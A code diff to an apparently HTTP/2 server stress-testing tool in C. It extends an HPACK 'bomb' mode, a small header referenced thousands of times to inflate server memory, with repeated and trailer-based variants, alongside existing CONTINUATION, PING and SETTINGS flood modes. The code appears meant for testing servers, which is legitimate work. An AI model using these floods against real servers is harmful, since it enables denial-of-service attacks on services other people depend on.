@@ -766,6 +766,7 @@ struct opts {
   long long data;       /* --data bytes, -1 = no DATA frame */
   int no_end;           /* --no-end */
   int no_end_headers;   /* --no-end-headers */
+  int trailers;         /* --trailers */
   long long repeat;     /* --repeat */
   int pace_ms;          /* --pace */
   int timeout_s;        /* --timeout */
@@ -861,7 +862,11 @@ static void usage(FILE *f) {
       "                         CONTINUATIONs of one 64-byte literal each;\n"
       "                         the first 200 are paced --pace MS apart (3)\n"
       "  bomb HOST PORT [REFS]  4000-byte header added to the dynamic table,\n"
-      "                         then REFS (default 16000) 1-byte references\n"
+      "                         then REFS (default 16000) 1-byte references;\n"
+      "                         --repeat K: K bombs on streams 1, 3, ...,\n"
+      "                         each after the last was answered (sent=\n"
+      "                         bombs sent); --trailers: each a POST whose\n"
+      "                         trailers are the bomb\n"
       "  ping HOST PORT N       N PINGs without reading (small SO_RCVBUF)\n"
       "  settings HOST PORT N   N SETTINGS without reading\n"
       "  emptydata HOST PORT N  POST stream, then N empty DATA frames\n"
@@ -943,6 +948,8 @@ static void parse_args(int argc, char **argv, struct opts *o) {
       o->no_end = 1;
     } else if (strcmp(a, "--no-end-headers") == 0) {
       o->no_end_headers = 1;
+    } else if (strcmp(a, "--trailers") == 0) {
+      o->trailers = 1;
     } else if (strcmp(a, "--repeat") == 0) {
       NEED_ARG;
       o->repeat = parse_num(next, "--repeat");
@@ -1231,16 +1238,25 @@ static size_t hpack_int(uint8_t *p, uint8_t first, int prefix, size_t v) {
   return n;
 }
 
-static void mode_bomb(struct conn *c, const struct opts *o) {
+enum bomb_part { BOMB_WHOLE, BOMB_POST_HEAD, BOMB_TRAILERS };
+
+/* bomb_block builds a header block of |*len| bytes, by hand (never
+ * through the deflater, whose idea of the peer's table the bomb would
+ * break): the bomb (see mode_bomb) as a GET, a plain POST head, or the
+ * bomb without pseudo-headers, as trailers. */
+static uint8_t *bomb_block(const struct opts *o, enum bomb_part part,
+                           size_t *len) {
   long long refs = o->n >= 0 ? o->n : 16000;
-  size_t alen = strlen(o->authority), cap, n = 0, maxf;
+  size_t alen = strlen(o->authority), cap, n = 0;
   uint8_t *hb;
   long long i;
   if (alen > 200)
     alen = 200;
   cap = 512 + alen + strlen(o->path) + 4000 + (size_t)refs;
   hb = xmalloc(cap);
-  hb[n++] = 0x82; /* :method GET */
+  if (part == BOMB_TRAILERS)
+    goto bomb;
+  hb[n++] = part == BOMB_POST_HEAD ? 0x83 : 0x82; /* :method POST / GET */
   hb[n++] = 0x86; /* :scheme http */
   if (strcmp(o->path, "/") == 0) {
     hb[n++] = 0x84; /* :path / */
@@ -1255,6 +1271,11 @@ static void mode_bomb(struct conn *c, const struct opts *o) {
   n += hpack_int(hb + n, 0x00, 7, alen);
   memcpy(hb + n, o->authority, alen);
   n += alen;
+  if (part == BOMB_POST_HEAD) {
+    *len = n;
+    return hb;
+  }
+bomb:
   /* literal with incremental indexing, new name "x-bomb", 4000-byte value:
    * 6 + 4000 + 32 = 4038 bytes, fits the default 4096-byte table */
   hb[n++] = 0x40;
@@ -1266,6 +1287,54 @@ static void mode_bomb(struct conn *c, const struct opts *o) {
   n += 4000;
   for (i = 0; i < refs; i++)
     hb[n++] = 0x80 | 62; /* indexed: the newest dynamic table entry */
+  *len = n;
+  return hb;
+}
+
+static int32_t g_bomb_sid;
+
+static int bomb_answered(struct conn *c) {
+  const struct stream *s = stream_get(c, (uint32_t)g_bomb_sid);
+  return c->dead || c->got_goaway ||
+         (s != NULL && (s->status >= 0 || s->rst >= 0));
+}
+
+/* mode_bombs (bomb --repeat K): the bomb on streams 1, 3, 5, ..., each
+ * sent once the one before was answered; |sent| counts bombs sent, so
+ * stop_at says how many went out before the GOAWAY or close. With
+ * --trailers each stream is a POST whose trailers are the bomb. */
+static void mode_bombs(struct conn *c, const struct opts *o) {
+  size_t n, maxf = c->peer_max_frame < 16384 ? c->peer_max_frame : 16384;
+  long long k, repeat = o->repeat > 0 ? o->repeat : 1;
+  for (k = 0; k < repeat; k++) {
+    uint8_t *hb;
+    if (c->closed || c->got_goaway || remaining_ms(c) == 0)
+      break;
+    g_bomb_sid = (int32_t)(2 * k + 1);
+    if (o->trailers) {
+      hb = bomb_block(o, BOMB_POST_HEAD, &n);
+      out_header_block(c, (uint32_t)g_bomb_sid, hb, n, maxf, 0, 0);
+      free(hb);
+    }
+    hb = bomb_block(o, o->trailers ? BOMB_TRAILERS : BOMB_WHOLE, &n);
+    out_header_block(c, (uint32_t)g_bomb_sid, hb, n, maxf, 1, 0);
+    free(hb);
+    if (flush(c, 1, 0) < 0)
+      break;
+    c->sent = k + 1;
+    pump(c, 5000, bomb_answered);
+  }
+  pump(c, o->wait_ms >= 0 ? o->wait_ms : 2000, is_dead);
+}
+
+static void mode_bomb(struct conn *c, const struct opts *o) {
+  size_t n, maxf;
+  uint8_t *hb;
+  if (o->repeat > 1 || o->trailers) {
+    mode_bombs(c, o);
+    return;
+  }
+  hb = bomb_block(o, BOMB_WHOLE, &n);
   maxf = c->peer_max_frame < 16384 ? c->peer_max_frame : 16384;
   out_header_block(c, 1, hb, n, maxf, 1, 0);
   free(hb);
